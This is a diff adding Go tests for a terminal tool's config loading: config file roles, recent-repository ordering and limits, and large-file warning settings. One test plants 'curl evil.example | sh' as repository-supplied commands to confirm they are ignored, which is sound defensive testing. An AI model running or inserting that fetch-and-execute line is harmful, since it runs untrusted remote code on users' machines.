@@ -1,9 +1,12 @@
 package config
 
 import (
+	"fmt"
 	"os"
 	"path/filepath"
 	"runtime"
+	"slices"
+	"strings"
 	"testing"
 )
 
@@ -197,6 +200,106 @@ func TestHasLocalConfig(t *testing.T) {
 	}
 }
 
+func TestFiles(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("JJ_TUI_CONFIG", "")
+	t.Chdir(t.TempDir())
+	if err := os.WriteFile(LocalConfigFileName, []byte(`{}`), 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	files := Files()
+	if len(files) != 2 || files[0].Role != "global" || files[1].Role != "repo" {
+		t.Fatalf("Files() = %+v, want global then repo", files)
+	}
+	if files[0].Exists || files[0].Path != filepath.Join(home, ".config", "jj-tui", "config.json") {
+		t.Errorf("global = %+v, want missing file under HOME", files[0])
+	}
+	if !files[1].Exists || !filepath.IsAbs(files[1].Path) {
+		t.Errorf("repo = %+v, want existing absolute path", files[1])
+	}
+
+	t.Setenv("JJ_TUI_CONFIG", filepath.Join(home, "custom.json"))
+	if files := Files(); len(files) != 1 || files[0].Role != "JJ_TUI_CONFIG" {
+		t.Errorf("with JJ_TUI_CONFIG, Files() = %+v, want only that file", files)
+	}
+}
+
+// Opening a repository moves it to the front of recent_repos in the global file only; saving
+// an older copy of the config (or a repo config) leaves the list alone.
+func TestRecentRepos(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	t.Setenv("JJ_TUI_CONFIG", "")
+	t.Chdir(t.TempDir())
+	stale, _ := Load()
+
+	for _, p := range []string{"/src/a", "/src/b", "/src/a"} {
+		if err := AddRecentRepo(p); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if got := LoadRecentRepos(); !slices.Equal(got, []string{"/src/a", "/src/b"}) {
+		t.Fatalf("recent = %q", got)
+	}
+	if err := stale.Save(); err != nil {
+		t.Fatal(err)
+	}
+	if err := stale.SaveLocal(); err != nil {
+		t.Fatal(err)
+	}
+	if got := LoadRecentRepos(); len(got) != 2 {
+		t.Errorf("saving a stale config changed recent_repos to %q", got)
+	}
+	if local, _ := loadFromFile(LocalConfigFileName); local == nil || local.RecentRepos != nil {
+		t.Errorf("repo config = %+v, want no recent_repos", local)
+	}
+
+	for i := range MaxRecentRepos + 2 {
+		_ = AddRecentRepo(fmt.Sprintf("/src/%d", i))
+	}
+	if got := LoadRecentRepos(); len(got) != MaxRecentRepos || got[0] != fmt.Sprintf("/src/%d", MaxRecentRepos+1) {
+		t.Errorf("recent = %q, want the newest %d", got, MaxRecentRepos)
+	}
+}
+
+// A repo's .jj-tui.json can't make jj-tui run commands: command status segments, the secret scan
+// command and the merge tool there are dropped, while the global config's are kept.
+func TestLoadIgnoresRepoCommands(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("JJ_TUI_CONFIG", "")
+	t.Chdir(t.TempDir())
+	global := &Config{StatusSegments: []StatusSegment{{Label: "time", Command: "date"}}, SecretScanCommand: "gitleaks stdin", MergeTool: "meld"}
+	if err := global.Save(); err != nil {
+		t.Fatal(err)
+	}
+	repo := `{"status_segments": [{"command": "curl evil.example | sh"}, {"builtin": "bookmark"}], "secret_scan_command": "curl evil.example | sh", "merge_tool": "vimdiff"}`
+	if err := os.WriteFile(LocalConfigFileName, []byte(repo), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(cfg.StatusSegments) != 1 || cfg.StatusSegments[0].Builtin != "bookmark" {
+		t.Errorf("segments = %+v, want only the repo's built-in segment", cfg.StatusSegments)
+	}
+	if cfg.SecretScanCommand != "gitleaks stdin" {
+		t.Errorf("secret scan command = %q, want the global one", cfg.SecretScanCommand)
+	}
+	if cfg.MergeTool != "meld" {
+		t.Errorf("merge tool = %q, want the global one", cfg.MergeTool)
+	}
+
+	if err := os.WriteFile(LocalConfigFileName, []byte(`{"status_segments": [{"command": "curl evil.example | sh"}]}`), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if cfg, _ = Load(); len(cfg.StatusSegments) != 1 || cfg.StatusSegments[0].Command != "date" {
+		t.Errorf("segments = %+v, want the global command segment", cfg.StatusSegments)
+	}
+}
+
 // TestConfigSaveAndLoad tests round-trip save/load
 func TestConfigSaveAndLoad(t *testing.T) {
 	// Create a temp directory
@@ -580,3 +683,24 @@ func TestGitHubTokenForAPI(t *testing.T) {
 	})
 }
 
+
+func TestLargeFileWarnSettings(t *testing.T) {
+	var nilCfg *Config
+	if got := nilCfg.LargeFileWarnBytes(); got != 5<<20 {
+		t.Errorf("default LargeFileWarnBytes = %d, want 5 MB", got)
+	}
+	kb := 0
+	if got := (&Config{LargeFileWarnKB: &kb}).LargeFileWarnBytes(); got != 0 {
+		t.Errorf("LargeFileWarnBytes with 0 KB = %d, want 0 (off)", got)
+	}
+	if p, def := (&Config{}).LargeFileWarnPatterns(); p != nil || !def {
+		t.Errorf("empty patterns = %q, %v; want default list", p, def)
+	}
+	if p, def := (&Config{LargeFilePatterns: "None"}).LargeFileWarnPatterns(); p != nil || def {
+		t.Errorf("none patterns = %q, %v; want no patterns", p, def)
+	}
+	p, def := (&Config{LargeFilePatterns: "*.sql, *.pem  build/*"}).LargeFileWarnPatterns()
+	if def || strings.Join(p, "|") != "*.sql|*.pem|build/*" {
+		t.Errorf("patterns = %q, %v", p, def)
+	}
+}